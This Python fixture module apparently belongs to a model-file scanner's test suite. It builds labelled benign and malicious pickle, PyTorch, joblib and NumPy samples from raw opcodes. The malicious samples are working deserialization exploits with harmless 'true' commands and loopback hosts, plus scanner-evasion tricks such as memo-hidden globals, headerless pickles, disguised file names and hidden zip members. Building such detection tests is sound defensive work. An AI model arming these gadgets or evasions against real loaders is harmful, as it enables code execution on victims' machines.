"""Labelled pickle/weight samples built from opcode bytes (never unpickled anywhere).

Every "malicious" sample names a harmless command (``true``), a loopback or
``.invalid`` host, or a temp path; none is ever loaded by the tests. Used by
``tests/test_pickle_*.py``, ``tests/test_weights_*.py`` and
``bench/pickle_speed.py`` (detection table against the anchors).
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass

# --------------------------------------------------------------------------- opcodes

STOP = b"."
MARK = b"("
REDUCE = b"R"
BUILD = b"b"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
SETITEMS = b"u"
SETITEM = b"s"
APPENDS = b"e"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
NEWOBJ = b"\x81"
OBJ = b"o"
POP = b"0"
NONE = b"N"
NEWFALSE = b"\x89"
NEWTRUE = b"\x88"
BINPERSID = b"Q"
LEGACY_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C


def proto(n: int = 2) -> bytes:
    return b"\x80" + bytes([n])


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module: str, name: str) -> bytes:
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text: str) -> bytes:
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def s0(text: str) -> bytes:
    """Protocol-0 STRING."""
    return b"S" + repr(text).encode() + b"\n"


def b(data: bytes) -> bytes:
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def i(value: int) -> bytes:
    if 0 <= value < 256:
        return b"K" + bytes([value])
    return b"J" + struct.pack("<i", value)


def put(index: int) -> bytes:
    return b"q" + bytes([index])


def get(index: int) -> bytes:
    return b"h" + bytes([index])


def call(module: str, name: str, *args: bytes) -> bytes:
    """GLOBAL module.name, then REDUCE with the given encoded arguments."""
    return glob(module, name) + MARK + b"".join(args) + TUPLE + REDUCE


def stack_call(module: str, name: str, *args: bytes) -> bytes:
    return s(module) + s(name) + STACK_GLOBAL + MARK + b"".join(args) + TUPLE + REDUCE


def frame(body: bytes, protocol: int = 4) -> bytes:
    return proto(protocol) + body + STOP


# --------------------------------------------------------------------------- benign builders


def torch_like_state_dict(names: tuple[str, ...] = ("layer.weight", "layer.bias")) -> bytes:
    """A data.pkl shaped like torch.save output: OrderedDict of _rebuild_tensor_v2 calls."""
    body = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK
    for n, name in enumerate(names):
        storage = MARK + s("storage") + glob("torch", "FloatStorage") + s(str(n)) + s("cpu")
        storage += i(4) + TUPLE + BINPERSID
        rebuild = glob("torch._utils", "_rebuild_tensor_v2") + MARK + storage + i(0)
        rebuild += i(2) + i(2) + TUPLE2 + i(2) + i(1) + TUPLE2 + NEWFALSE
        rebuild += glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
        body += s(name) + rebuild
    body += SETITEMS
    return proto(2) + body + STOP


def torch_zip(
    data_pkl: bytes, prefix: str = "archive", extra: dict[str, bytes] | None = None
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{prefix}/data.pkl", data_pkl)
        zf.writestr(f"{prefix}/byteorder", b"little")
        zf.writestr(
            f"{prefix}/data/0", b"\x80\x02" + b"\x00" * 14
        )  # storage bytes that look pickly
        zf.writestr(f"{prefix}/data/1", b"\x00" * 8)
        zf.writestr(f"{prefix}/version", b"3\n")
        zf.writestr(f"{prefix}/.data/serialization_id", b"123")
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return out.getvalue()


def legacy_torch(payload_object: bytes) -> bytes:
    """Five consecutive pickles as torch's legacy writer emits, then raw storage bytes."""
    magic = pickle.dumps(LEGACY_MAGIC_NUMBER, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    keys = pickle.dumps(["0", "1"], protocol=2)
    storage = struct.pack("<q", 4) + b"\x80\x02c" + b"\x00" * 13  # raw bytes: not a pickle to read
    return magic + version + sys_info + payload_object + keys + storage


def numpy_benign_pickle() -> bytes:
    import numpy as np

    rng = np.random.default_rng(0)
    obj = {"W": rng.standard_normal((32, 16)).astype(np.float32), "ids": np.arange(100)}
    return pickle.dumps(obj, protocol=2)


def namespace_checkpoint() -> bytes:
    import argparse

    obj = {"args": argparse.Namespace(lr=0.1, arch="mlp"), "state": OrderedDict(a=1)}
    return pickle.dumps(obj, protocol=2)


def npy(descr: str, payload: bytes, shape: str = "(1,)") -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def joblib_array_pickle(tail_payload: bytes = b"", array: bytes | None = None) -> bytes:
    """An uncompressed joblib file: NumpyArrayWrapper, raw array bytes, then the rest."""
    dtype = glob("numpy", "dtype") + MARK + s("f8") + NEWFALSE + NEWTRUE + TUPLE + REDUCE
    dtype += MARK + i(3) + s("<") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" * 2 + i(0) + TUPLE
    dtype += BUILD
    state = EMPTY_DICT + MARK
    state += s("subclass") + glob("numpy", "ndarray")
    state += s("shape") + i(3) + TUPLE1
    state += s("order") + s("C")
    state += s("dtype") + dtype
    state += s("allow_mmap") + NEWTRUE
    if array is None:  # joblib >= 1.2 aligns the array bytes
        state += s("numpy_array_alignment_bytes") + i(16)
    state += SETITEMS
    wrapper = (
        glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    )
    if array is None:
        array = bytes([7]) + b"\xff" * 7 + struct.pack("<3d", 1.0, 2.0, 3.0)  # padding, 24 bytes
    else:
        state_len = len(array) // 8
        wrapper = wrapper.replace(s("shape") + i(3), s("shape") + i(state_len), 1)
    body = EMPTY_DICT + s("coef") + wrapper
    return proto(2) + body + array + SETITEM + tail_payload + STOP


# --------------------------------------------------------------------------- malicious payloads


def os_system() -> bytes:
    return proto(2) + call("posix", "system", s("true")) + STOP


def os_system_protocol0() -> bytes:
    return glob("os", "system") + MARK + s0("true") + TUPLE + REDUCE + STOP


def stack_global_memo() -> bytes:
    # The names are memoized, popped, and replayed from the memo: a flat scanner loses them.
    body = s("os") + MEMOIZE + s("system") + MEMOIZE + POP + POP
    body += get(0) + get(1) + STACK_GLOBAL + s("true") + TUPLE1 + REDUCE
    return frame(body)


def inst_protocol0() -> bytes:
    return MARK + s0("true") + inst("os", "system") + STOP


def obj_popen() -> bytes:
    return proto(1) + MARK + glob("subprocess", "Popen") + MARK + s0("true") + TUPLE + OBJ + STOP


def newobj_popen() -> bytes:
    return proto(2) + glob("subprocess", "Popen") + s("true") + TUPLE1 + TUPLE1 + NEWOBJ + STOP


def nested_pickle_loads() -> bytes:
    return proto(3) + call("pickle", "loads", b(os_system())) + STOP


def nested_codecs_loads() -> bytes:
    inner = os_system().decode("latin-1")
    encoded = call("_codecs", "encode", s(inner), s("latin1"))
    return proto(3) + glob("_pickle", "loads") + MARK + encoded + TUPLE + REDUCE + STOP


def nested_torch_load() -> bytes:
    inner = torch_zip(os_system())
    return (
        proto(3)
        + glob("torch", "load")
        + MARK
        + call("io", "BytesIO", b(inner))
        + TUPLE
        + REDUCE
        + STOP
    )


def extension_code() -> bytes:
    return proto(2) + b"\x82\x01" + EMPTY_TUPLE + REDUCE + STOP


def getattr_chain() -> bytes:
    module = call("builtins", "__import__", s("os"))
    func = glob("builtins", "getattr") + MARK + module + s("system") + TUPLE + REDUCE
    return proto(2) + func + MARK + s("true") + TUPLE + REDUCE + STOP


def methodcaller() -> bytes:
    caller = call("operator", "methodcaller", s("system"), s("true"))
    return (
        proto(2)
        + caller
        + MARK
        + call("importlib", "import_module", s("os"))
        + TUPLE
        + REDUCE
        + STOP
    )


def partial_eval() -> bytes:
    part = call("functools", "partial", glob("builtins", "eval"), s("1+1"))
    return proto(2) + part + EMPTY_TUPLE + REDUCE + STOP


def pip_main() -> bytes:
    args = EMPTY_LIST + MARK + s("--version") + APPENDS
    return proto(2) + call("pip._internal.cli.main", "main", args) + STOP


def setuptools_spawn() -> bytes:
    return (
        proto(2)
        + call("setuptools._distutils.spawn", "spawn", EMPTY_LIST + MARK + s("true") + APPENDS)
        + STOP
    )


def importlib_getattr_static() -> bytes:
    module = call("importlib", "import_module", s("os"))
    func = glob("inspect", "getattr_static") + MARK + module + s("system") + TUPLE + REDUCE
    return proto(2) + func + MARK + s("true") + TUPLE + REDUCE + STOP


def numpy_memo_build_eval() -> bytes:
    # modelscan#330 shape: the operands of STACK_GLOBAL hide in a numpy dtype's BUILD state.
    dtype = glob("numpy", "dtype") + MARK + s("f8") + NEWFALSE + NEWTRUE + TUPLE + REDUCE
    state = MARK + i(3) + s("builtins") + MEMOIZE + s("eval") + MEMOIZE + TUPLE
    body = dtype + state + BUILD + POP
    body += get(0) + get(1) + STACK_GLOBAL + s("1+1") + TUPLE1 + REDUCE
    return frame(body)


def operator_call_path_touch() -> bytes:
    touch = s("pathlib") + s("Path.touch") + STACK_GLOBAL
    path = call("pathlib", "PosixPath", s("/tmp/loadguard-sample-never-created"))
    return frame(glob("operator", "call") + MARK + touch + path + TUPLE + REDUCE)


def typing_eval_type() -> bytes:
    ref = call("typing", "ForwardRef", s("__import__('os').system('true')"))
    return frame(
        glob("typing", "_eval_type") + MARK + ref + EMPTY_DICT + EMPTY_DICT + TUPLE + REDUCE
    )


def collect_env_run() -> bytes:
    return proto(2) + call("torch.utils.collect_env", "run", s("true")) + STOP


def spawnv_passfds() -> bytes:
    args = EMPTY_LIST + MARK + s("true") + APPENDS
    return (
        proto(2)
        + call("multiprocessing.util", "spawnv_passfds", s("/bin/true"), args, EMPTY_TUPLE)
        + STOP
    )


def mailcap_findmatch() -> bytes:
    return (
        proto(2)
        + call("mailcap", "findmatch", EMPTY_DICT, s("text/plain"), s("view"), s("; true"))
        + STOP
    )


def pkgutil_resolve_name() -> bytes:
    func = call("pkgutil", "resolve_name", s("os:system"))
    return proto(2) + func + MARK + s("true") + TUPLE + REDUCE + STOP


def unknown_gadget() -> bytes:
    # a library function nobody lists: unknown import (medium), dangerous-sounding leaf (high)
    return proto(2) + call("somelib.helpers", "run_command", s("true")) + STOP


def dynamic_stack_global() -> bytes:
    module = call("builtins", "str", b(b"os"), s("ascii"))
    return frame(module + s("system") + STACK_GLOBAL + s("true") + TUPLE1 + REDUCE)


def build_on_global() -> bytes:
    state = NONE + EMPTY_DICT + s("loads") + glob("builtins", "eval") + SETITEM + TUPLE2
    return proto(2) + glob("json", "decoder") + state + BUILD + STOP


def webbrowser_open() -> bytes:
    return proto(2) + call("webbrowser", "open", s("http://sample.invalid/")) + STOP


def socket_connect() -> bytes:
    address = s("127.0.0.1") + i(9) + TUPLE2
    return proto(2) + call("socket", "create_connection", address) + STOP


def runpy_run() -> bytes:
    return proto(2) + call("runpy", "_run_code", s("print(1)"), EMPTY_DICT) + STOP


def builtin_alias_eval() -> bytes:
    return glob("__builtin__", "eval") + MARK + s0("1+1") + TUPLE + REDUCE + STOP


def exec_in_second_pickle() -> bytes:
    # pickle.load reads the first; a loader that loads twice (legacy torch) reads the second
    return pickle.dumps({"ok": 1}, protocol=2) + os_system()


@dataclass(frozen=True)
class Sample:
    name: str
    filename: str
    build: Callable[[], bytes]
    malicious: bool
    note: str = ""


def _torch_zip_payload() -> bytes:
    return torch_zip(os_system())


def _torch_zip_hidden_member() -> bytes:
    return torch_zip(torch_like_state_dict(), extra={"archive/extra/helper.pkl": os_system()})


def _legacy_payload() -> bytes:
    return legacy_torch(os_system())


def _npy_object_payload() -> bytes:
    return npy("|O", os_system())


def _joblib_payload() -> bytes:
    return joblib_array_pickle(tail_payload=s("x") + call("posix", "system", s("true")) + SETITEM)


def _joblib_zlib_payload() -> bytes:
    return zlib.compress(_joblib_payload())


def _polyglot() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("archive/data.pkl", os_system())
    return pickle.dumps({"ok": 1}, protocol=2) + inner.getvalue()


def _disguised_safetensors() -> bytes:
    return os_system()


SAMPLES: tuple[Sample, ...] = (
    Sample("os-system", "os_system.pkl", os_system, True),
    Sample("os-system-protocol0", "os_system_p0.pkl", os_system_protocol0, True),
    Sample("stack-global-memo", "stack_global_memo.pkl", stack_global_memo, True),
    Sample("inst-protocol0", "inst_p0.pkl", inst_protocol0, True),
    Sample("obj-popen", "obj_popen.pkl", obj_popen, True),
    Sample("newobj-popen", "newobj_popen.pkl", newobj_popen, True),
    Sample("nested-pickle-loads", "nested_loads.pkl", nested_pickle_loads, True),
    Sample("nested-codecs-loads", "nested_codecs.pkl", nested_codecs_loads, True),
    Sample("nested-torch-load", "nested_torch_load.pkl", nested_torch_load, True),
    Sample("ext-opcode", "ext_opcode.pkl", extension_code, True, "unresolvable: medium"),
    Sample("getattr-chain", "getattr_chain.pkl", getattr_chain, True),
    Sample("operator-methodcaller", "methodcaller.pkl", methodcaller, True),
    Sample("functools-partial-eval", "partial_eval.pkl", partial_eval, True),
    Sample("pip-main", "pip_main.pkl", pip_main, True),
    Sample("setuptools-spawn", "setuptools_spawn.pkl", setuptools_spawn, True),
    Sample("importlib-getattr-static", "huntr_poc.pkl", importlib_getattr_static, True),
    Sample("numpy-memo-build-eval", "numpy_memo_eval.pkl", numpy_memo_build_eval, True),
    Sample("operator-call-path-touch", "operator_call.pkl", operator_call_path_touch, True),
    Sample("typing-eval-type", "typing_eval.pkl", typing_eval_type, True),
    Sample("collect-env-run", "collect_env.pkl", collect_env_run, True),
    Sample("spawnv-passfds", "spawnv.pkl", spawnv_passfds, True),
    Sample("mailcap-findmatch", "mailcap.pkl", mailcap_findmatch, True),
    Sample("pkgutil-resolve-name", "resolve_name.pkl", pkgutil_resolve_name, True),
    Sample("unknown-run-command", "unknown_gadget.pkl", unknown_gadget, True),
    Sample("dynamic-stack-global", "dynamic_global.pkl", dynamic_stack_global, True),
    Sample("build-on-global", "build_global.pkl", build_on_global, True),
    Sample("webbrowser-open", "webbrowser.pkl", webbrowser_open, True),
    Sample("socket-connect", "socket.pkl", socket_connect, True),
    Sample("runpy-run-code", "runpy.pkl", runpy_run, True),
    Sample("builtin-alias-eval", "builtin_alias.pkl", builtin_alias_eval, True),
    Sample("second-pickle-in-stream", "two_pickles.pkl", exec_in_second_pickle, True),
    Sample("torch-zip-payload", "pytorch_model.bin", _torch_zip_payload, True),
    Sample("torch-zip-hidden-member", "hidden_member.pt", _torch_zip_hidden_member, True),
    Sample("torch-legacy-payload", "legacy_model.bin", _legacy_payload, True),
    Sample("npy-object-payload", "object_array.npy", _npy_object_payload, True),
    Sample("joblib-payload", "model.joblib", _joblib_payload, True),
    Sample("joblib-zlib-payload", "model_z.joblib", _joblib_zlib_payload, True),
    Sample("pickle-zip-polyglot", "polyglot.pkl", _polyglot, True),
    Sample("pickle-named-safetensors", "model.safetensors", _disguised_safetensors, True),
    Sample(
        "benign-torch-zip", "benign_model.pt", lambda: torch_zip(torch_like_state_dict()), False
    ),
    Sample(
        "benign-torch-legacy",
        "benign_legacy.bin",
        lambda: legacy_torch(torch_like_state_dict()),
        False,
    ),
    Sample("benign-numpy-pickle", "benign_numpy.pkl", numpy_benign_pickle, False),
    Sample("benign-namespace-ckpt", "benign_namespace.pt", namespace_checkpoint, False),
    Sample("benign-joblib", "benign.joblib", joblib_array_pickle, False),
    Sample(
        "benign-npy-object",
        "benign_object.npy",
        lambda: npy("|O", pickle.dumps(["a", "b"], 3)),
        False,
    ),
)


def keras_zip(config: object) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
    return out.getvalue()


def gguf(metadata: dict[str, object], version: int = 3) -> bytes:
    def gstr(text: str) -> bytes:
        data = text.encode()
        return struct.pack("<Q", len(data)) + data

    out = b"GGUF" + struct.pack("<I", version) + struct.pack("<QQ", 0, len(metadata))
    for key, value in metadata.items():
        out += gstr(key)
        if isinstance(value, str):
            out += struct.pack("<I", 8) + gstr(value)
        elif isinstance(value, int):
            out += struct.pack("<I", 4) + struct.pack("<I", value)
        elif isinstance(value, list):
            out += struct.pack("<I", 9) + struct.pack("<IQ", 8, len(value))
            out += b"".join(gstr(str(v)) for v in value)
    return out


def safetensors(
    header: dict[str, object], data: bytes, *, raw_header: bytes | None = None
) -> bytes:
    text = raw_header if raw_header is not None else json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def torch_tar(payload_in: str = "") -> bytes:
    """torch's pre-1.0 tar layout, as ``torch.serialization.legacy_load`` reads it."""
    import tarfile

    storage_args = (
        proto(2) + MARK + s("0") + s("cpu") + glob("torch", "FloatStorage") + TUPLE + STOP
    )
    if payload_in == "storages":
        storage_args = os_system()
    storages = pickle.dumps(1, 2) + storage_args + struct.pack("<q", 2) + b"\x80\x02" * 4
    storages += pickle.dumps([], 2)
    tensor_args = proto(2) + MARK + s("t0") + s("0") + glob("torch", "FloatTensor") + TUPLE + STOP
    tensors = (
        pickle.dumps(1, 2) + tensor_args + struct.pack("<ii", 1, 0) + struct.pack("<qqq", 2, 1, 0)
    )
    main = os_system() if payload_in == "pickle" else pickle.dumps({"weight": "t0"}, 2)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (
            ("sys_info", pickle.dumps({}, 2)),
            ("storages", storages),
            ("tensors", tensors),
            ("pickle", main),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


SAMPLES = (
    *SAMPLES,
    Sample("torch-tar-payload", "legacy_tar.pth", lambda: torch_tar("storages"), True),
    Sample("benign-torch-tar", "benign_tar.pth", torch_tar, False),
)
SAMPLES_BY_NAME = {sample.name: sample for sample in SAMPLES}


def joblib_hidden_payload() -> bytes:
    """joblib skips the 'array bytes' after the wrapper; plain pickle.load runs them as opcodes."""
    hidden = glob("posix", "system") + MARK + s0("true") + TUPLE + REDUCE + POP
    pad = -len(hidden) % 8  # the array is float64: a whole number of 8-byte items
    hidden += b"N0" * (pad // 2) + NONE * (pad % 2)
    return joblib_array_pickle(array=hidden)


SAMPLES = (*SAMPLES, Sample("joblib-hidden-opcodes", "hidden.pkl", joblib_hidden_payload, True))
SAMPLES_BY_NAME = {sample.name: sample for sample in SAMPLES}


# --------------------------------------------------------------------------- evasions (classes)


def headerless_second_pickle() -> bytes:
    """A protocol-0 payload after a protocol-2 pickle: no PROTO header announces it."""
    return (
        pickle.dumps({"ok": 1}, protocol=2)
        + glob("posix", "system")
        + MARK
        + s0("true")
        + TUPLE
        + REDUCE
        + STOP
    )


def headerless_binary_pickle() -> bytes:
    """No PROTO, names in UNICODE escapes, a binary STACK_GLOBAL: not text, not a PROTO head."""
    return b"V\\u0070osix\nV\\u0073ystem\n\x93Vtrue\n\x85R."


def pydoc_pipepager() -> bytes:
    return proto(2) + call("pydoc", "pipepager", s("x"), s("true")) + STOP


def imaplib_stream() -> bytes:
    return proto(2) + call("imaplib", "IMAP4_stream", s("true")) + STOP


def frozen_importlib_call() -> bytes:
    """An import-machinery helper that calls what it is given: f(*args)."""
    func = glob("posix", "system")
    return proto(2) + call("_frozen_importlib", "_call_with_frames_removed", func, s("true")) + STOP


def copyreg_reconstructor_forward() -> bytes:
    """An allowlisted reconstructor that runs base.__init__(obj, state)."""
    popen = glob("subprocess", "Popen")
    return proto(2) + call("copyreg", "_reconstructor", popen, popen, s("true")) + STOP


def hub_class_remote() -> bytes:
    """A library class whose __init__ downloads a model (and its code) from the hub."""
    return (
        proto(2) + call("sentence_transformers", "SentenceTransformer", s("attacker/model")) + STOP
    )


def torch_zip_local_name_lie() -> bytes:
    """The local header renames data.pkl; PyTorch reads by the central directory."""
    data = torch_zip(os_system())
    at = data.find(b"archive/data.pkl")
    return data[:at] + b"archive/data.pkX" + data[at + len(b"archive/data.pkl") :]


def torch_zip_ratio_bomb() -> bytes:
    """data.pkl padded with compressible no-ops past the zip-bomb ratio, payload last."""
    padded = proto(2) + b"N0" * 1_000_000 + os_system()[2:]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("archive/data.pkl", padded)
        zf.writestr("archive/version", b"3\n")
    return out.getvalue()


def gzip_pickle() -> bytes:
    import gzip

    return gzip.compress(os_system(), mtime=0)


def npz_unnamed_member() -> bytes:
    """np.load reads an .npz member as an array by its magic, whatever its name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("arr_0", npy("|O", os_system()))
    return out.getvalue()


def benign_gzip_pickle() -> bytes:
    import gzip

    return gzip.compress(pickle.dumps({"lr": 0.1, "steps": [1, 2]}, protocol=4), mtime=0)


SAMPLES = (
    *SAMPLES,
    Sample("headerless-second-pickle", "two_pickles_p0.pkl", headerless_second_pickle, True),
    Sample("headerless-binary-pickle", "p0_binary.pkl", headerless_binary_pickle, True),
    Sample("pydoc-pipepager", "pydoc.pkl", pydoc_pipepager, True),
    Sample("imaplib-stream", "imaplib.pkl", imaplib_stream, True),
    Sample("frozen-importlib-call", "frozen.pkl", frozen_importlib_call, True),
    Sample(
        "copyreg-reconstructor-forward", "reconstructor.pkl", copyreg_reconstructor_forward, True
    ),
    Sample("hub-class-remote", "hub_class.pkl", hub_class_remote, True),
    Sample("torch-zip-local-name-lie", "lying.pt", torch_zip_local_name_lie, True),
    Sample("torch-zip-ratio-bomb", "padded.pt", torch_zip_ratio_bomb, True),
    Sample("gzip-pickle", "model.pkl.gz", gzip_pickle, True),
    Sample("npz-unnamed-member", "arrays.npz", npz_unnamed_member, True),
    Sample("benign-gzip-pickle", "benign.pkl.gz", benign_gzip_pickle, False),
    Sample(
        "benign-protocol1",
        "benign_p1.pkl",
        lambda: pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True)}, protocol=1),
        False,
    ),
)
SAMPLES_BY_NAME = {sample.name: sample for sample in SAMPLES}
